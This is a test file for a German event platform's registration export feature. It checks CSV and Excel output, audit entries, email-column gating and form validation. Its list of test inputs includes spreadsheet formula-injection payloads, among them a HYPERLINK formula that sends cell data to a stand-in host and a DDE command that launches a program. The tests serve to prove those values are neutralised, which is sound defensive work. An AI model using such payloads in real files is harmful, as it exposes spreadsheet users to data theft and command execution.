import { inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Member } from '../../src/modules/accounts/actor.ts';
import { exportRegistrations } from '../../src/modules/events/registrations/commands-export.ts';
import { everything } from '../../src/modules/events/registrations/queries-organiser.ts';
import { csvFile, xlsxFile } from '../../src/platform/sheet.ts';
import { get, post, signInAs, startTestApp, type TestApp } from '../support/app.ts';
import { makeAccount, makeEvent, makeOrganisation, makeRegistration, makeSeries } from '../support/make.ts';

let test: TestApp;
let seriesId: string;
let organiser: Member;
let cookie: string;
beforeAll(async () => {
  test = await startTestApp();
  seriesId = (await makeSeries(test)).id;
  organiser = await makeAccount(test, { name: 'Reihenleitung Organisiert', organises: [seriesId] });
  cookie = await signInAs(test, organiser.accountId);
});
afterAll(() => test.close());

const url = (slug: string): string => `/organisation/veranstaltungen/${slug}/anmeldungen/export`;
const exportsOf = (eventId: string) => test.db.selectFrom('activity').select(['actorId', 'verb', 'object', 'objectId', 'data']).where('eventId', '=', eventId).where('verb', '=', 'exported').orderBy('id').execute();

/** The records of one of our CSV files; no cell of these tests holds a line end. */
function readCsv(text: string): string[][] {
  return text.replace(/^\ufeff/, '').split('\r\n').filter(Boolean)
    .map((line) => [...line.matchAll(/(?:^|;)(?:"((?:[^"]|"")*)"|([^;]*))/g)].map((m) => (m[1] ?? m[2] ?? '').replaceAll('""', '"')));
}

/** One file out of a ZIP archive, found by its central directory. */
function unzip(archive: Buffer, name: string): string {
  for (let at = archive.readUInt32LE(archive.lastIndexOf('PK\x05\x06') + 16); archive.readUInt32LE(at) === 0x02014b50;) {
    const [size, nameLength, extra, comment, local] = [archive.readUInt32LE(at + 20), archive.readUInt16LE(at + 28), archive.readUInt16LE(at + 30), archive.readUInt16LE(at + 32), archive.readUInt32LE(at + 42)];
    if (archive.toString('utf8', at + 46, at + 46 + nameLength) === name) {
      const start = local + 30 + archive.readUInt16LE(local + 26) + archive.readUInt16LE(local + 28);
      const data = archive.subarray(start, start + size);
      return (archive.readUInt16LE(at + 10) === 8 ? inflateRawSync(data) : data).toString('utf8');
    }
    at += 46 + nameLength + extra + comment;
  }
  throw new Error(`no ${name}`);
}

/** What a spreadsheet would run, or hand to another program, if a cell began with it. */
const payloads = [
  '=1+1', '=HYPERLINK("https://boese.example?"&A1,"Klick")', '+49 731 1', '-2+3', '@SUM(A1:A9)', "=cmd|'/C calc'!A0", '\t=1+1', '\r=1+1', '  =1+1', '＝1+1', '＠SUM(A1)', '\n=1+1',
];

describe('files', () => {
  it.each(payloads)('never lets a cell of a CSV file begin as a formula: %j', (payload) => {
    const text = csvFile({ name: 'x', header: ['A', 'B'], rows: [['vorn', payload]] }).toString('utf8');
    const cell = text.slice(text.indexOf('vorn;') + 5).replace(/^"/, '');
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.replaceAll('""', '"')).toContain(payload);
  });

  it('leaves ordinary cells of a CSV file as they are', () => {
    const rows = [['Süd, Bauamt', 'Stadt "Ulm"; Amt 3', 'a=b', 'Straße 1-3', '']];
    expect(csvFile({ name: 'x', header: ['ä', 'b', 'c', 'd', 'e'], rows }).toString('utf8'))
      .toBe('\ufeffä;b;c;d;e\r\nSüd, Bauamt;"Stadt ""Ulm""; Amt 3";a=b;Straße 1-3;\r\n');
  });

  it('writes every cell of an Excel file as a string', async () => {
    const archive = await xlsxFile({ name: 'Anmeldungen', header: ['Name', 'Zahl'], rows: [...payloads.map((p) => [p, '3']), ['mit \u0001 Steuerzeichen \ud800', '']] });
    const sheet = unzip(archive, 'xl/worksheets/sheet1.xml');
    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => cell);
    expect(cells).toHaveLength(2 + 2 * payloads.length + 1);
    expect(cells.filter((cell) => !cell.includes('t="s"'))).toEqual([]);
    expect(sheet).not.toContain('<f>');
    const strings = unzip(archive, 'xl/sharedStrings.xml');
    expect(strings).toContain('<t>=1+1</t>');
    expect(strings).toContain('mit  Steuerzeichen');
    // eslint-disable-next-line no-control-regex -- they would break the file
    expect(strings).not.toMatch(/[\u0000-\u0008\ud800-\udfff]/);
  });
});

describe('exporting', () => {
  it('hands out what was chosen, with an audit entry that says how much, as what and why', async () => {
    const event = await makeEvent(test, { seriesId });
    const organisation = await makeOrganisation(test, { name: 'Stadt Exportingen', officialType: 'Große Kreisstadt', land: '08' });
    const { accountId } = await makeAccount(test, { name: '=Bauamt Süd', email: 'bauamt@exportingen.example', jobTitle: 'CDO', memberships: [organisation.id] });
    await makeRegistration(test, { eventId: event.id, accountId, organisationId: organisation.id, seat: 'room', question: 'Was; und "wie"?', organiserNote: 'geheim' });
    const later = (minutes: number) => test.clock.now().add({ minutes });
    await makeRegistration(test, { eventId: event.id, state: 'queued', wish: 'room', createdAt: later(1) });
    await makeRegistration(test, { eventId: event.id, state: 'offered', invitedEmail: 'neu@exportingen.example', createdAt: later(2) });
    await makeRegistration(test, { eventId: event.id, state: 'cancelled' });
    const form = { stand: 'aktuell', spalten: ['name', 'organisation', 'organisationType', 'land', 'state', 'seat', 'place', 'question'], format: 'csv', grund: 'Tischkarten drucken' };
    const answer = await post(test, url(event.slug), form, { cookie });
    expect([answer.statusCode, answer.headers['content-type'], answer.headers['cache-control']]).toEqual([200, 'text/csv; charset=utf-8', 'no-store']);
    expect(answer.headers['content-disposition']).toBe(`attachment; filename="anmeldungen-${event.slug}-2027-01-12.csv"`);
    expect(readCsv(answer.body)).toEqual([
      ['Name', 'Organisation', 'Art der Organisation', 'Land', 'Stand', 'Platz', 'Nummer auf der Warteliste', 'Frage vorab'],
      ["'=Bauamt Süd", 'Stadt Exportingen', 'Große Kreisstadt', 'Baden-Württemberg', 'bestätigt', 'im Raum', '', 'Was; und "wie"?'],
      ['(ohne Person)', '', '', '', 'Warteliste', '', '1', ''],
      ['(noch ohne Namen)', '', '', '', 'Platz angeboten', '', '', ''],
    ]);
    expect(await exportsOf(event.id)).toEqual([{
      actorId: organiser.accountId, verb: 'exported', object: 'event', objectId: event.id, data: { count: 3, format: 'csv', columns: form.spalten, reason: 'Tischkarten drucken' },
    }]);
    const page = await get(test, url(event.slug), { cookie });
    expect(page.body).toContain('3 Anmeldungen, CSV<');
    expect(page.body).toContain('Tischkarten drucken');
    expect(page.body).toContain('Reihenleitung Organisiert');
    expect(page.body).toMatch(/value="email"(?![^>]*checked)/);
  });

  it('has addresses in the file only where they were asked for, and says so afterwards', async () => {
    const event = await makeEvent(test, { seriesId });
    const { accountId } = await makeAccount(test, { email: 'person@adressen.example' });
    await makeRegistration(test, { eventId: event.id, accountId });
    await makeRegistration(test, { eventId: event.id, state: 'offered', invitedEmail: 'eingeladen@adressen.example', createdAt: test.clock.now().add({ minutes: 1 }) });
    const allButAddress = ['name', 'jobTitle', 'organisation', 'organisationType', 'land', 'state', 'seat', 'place', 'coming', 'question', 'topics', 'registeredAt', 'note'];
    for (const format of ['csv', 'xlsx']) {
      const without = await post(test, url(event.slug), { spalten: allButAddress, format, grund: 'Übersicht' }, { cookie });
      const text = format === 'csv' ? without.body : unzip(without.rawPayload, 'xl/sharedStrings.xml');
      expect([without.statusCode, text.includes('adressen.example')]).toEqual([200, false]);
    }
    const handed = await exportRegistrations(test.deps, organiser, event.slug, { filter: everything, columns: ['name', 'note'], format: 'csv', reason: 'Übersicht' });
    expect(JSON.stringify(handed)).not.toContain('adressen.example');
    expect((await get(test, url(event.slug), { cookie })).body).not.toContain('mit E-Mail-Adressen');
    const withAddress = await post(test, url(event.slug), { spalten: ['name', 'email'], format: 'csv', grund: 'Einladungen' }, { cookie });
    expect(readCsv(withAddress.body).slice(1).map((cells) => cells[1])).toEqual(['person@adressen.example', 'eingeladen@adressen.example']);
    expect((await get(test, url(event.slug), { cookie })).body).toContain('2 Anmeldungen, CSV, mit E-Mail-Adressen');
  });

  it('takes only what the filter shows, and only of this event', async () => {
    const [event, other] = [await makeEvent(test, { seriesId }), await makeEvent(test, { seriesId })];
    const person = async (name: string): Promise<string> => (await makeAccount(test, { name })).accountId;
    await makeRegistration(test, { eventId: event.id, accountId: await person('Im Raum'), seat: 'room' });
    await makeRegistration(test, { eventId: event.id, accountId: await person('Am Bildschirm'), seat: 'online' });
    await makeRegistration(test, { eventId: other.id, accountId: await person('Andere Veranstaltung'), seat: 'room' });
    const answer = await post(test, url(event.slug), { platz: 'raum', spalten: 'name', format: 'csv', grund: 'Namensschilder' }, { cookie });
    expect(readCsv(answer.body)).toEqual([['Name'], ['Im Raum']]);
  });

  it.each([
    [{ grund: '' }, 'Schreiben Sie, wofür Sie die Datei brauchen.'],
    [{ grund: 'ab' }, 'Schreiben Sie den Grund etwas genauer.'],
    [{ grund: 'g'.repeat(301) }, 'Kürzen Sie den Grund auf 300 Zeichen.'],
    [{ spalten: [] }, 'Wählen Sie mindestens eine Angabe.'],
    [{ spalten: ['check_in_code'] }, 'Wählen Sie mindestens eine Angabe.'],
    [{ format: 'pdf' }, 'Wählen Sie ein Dateiformat.'],
    [{ stand: 'teilgenommen' }, 'Zu dieser Auswahl gibt es keine Anmeldungen.'],
  ])('refuses with a sentence, keeps what was typed, and leaves no entry (%#)', async (given, sentence) => {
    const event = await makeEvent(test, { seriesId });
    await makeRegistration(test, { eventId: event.id });
    const answer = await post(test, url(event.slug), { spalten: ['name', 'question'], format: 'csv', grund: 'Namensschilder', ...given }, { cookie });
    expect(answer.statusCode).toBe(422);
    expect(answer.body).toContain(sentence);
    expect(answer.body).toContain('<title>Fehler: ');
    if (!('spalten' in given)) expect(answer.body).toMatch(/value="question"[^>]* checked|checked[^>]*value="question"/);
    expect(await exportsOf(event.id)).toEqual([]);
  });

  it('hands out nothing when the audit entry cannot be written', async () => {
    const event = await makeEvent(test, { seriesId });
    const { accountId } = await makeAccount(test, { name: 'Nur Mit Eintrag' });
    await makeRegistration(test, { eventId: event.id, accountId });
    const { sql } = await import('kysely');
    await sql`alter table activity add constraint no_exports check (verb <> 'exported') not valid`.execute(test.owner);
    const answer = await post(test, url(event.slug), { spalten: 'name', format: 'csv', grund: 'Namensschilder' }, { cookie });
    await sql`alter table activity drop constraint no_exports`.execute(test.owner);
    expect([answer.statusCode, answer.body.includes('Nur Mit Eintrag')]).toEqual([500, false]);
  });

  it('writes words of the page’s language', async () => {
    const event = await makeEvent(test, { seriesId });
    await makeRegistration(test, { eventId: event.id, seat: 'room' });
    const answer = await post(test, `/en${url(event.slug)}`, { spalten: ['name', 'state', 'seat'], format: 'csv', grund: 'name badges' }, { cookie });
    expect(readCsv(answer.body)).toEqual([['Name', 'State', 'Seat'], ['(no person)', 'confirmed', 'in the room']]);
  });

  it('has no address that would hand out a file', async () => {
    const event = await makeEvent(test, { seriesId });
    await makeRegistration(test, { eventId: event.id });
    const answer = await get(test, `${url(event.slug)}?spalten=name&format=csv&grund=Namensschilder`, { cookie });
    expect([answer.statusCode, String(answer.headers['content-type'])]).toEqual([200, 'text/html; charset=utf-8']);
    expect(await exportsOf(event.id)).toEqual([]);
  });
});
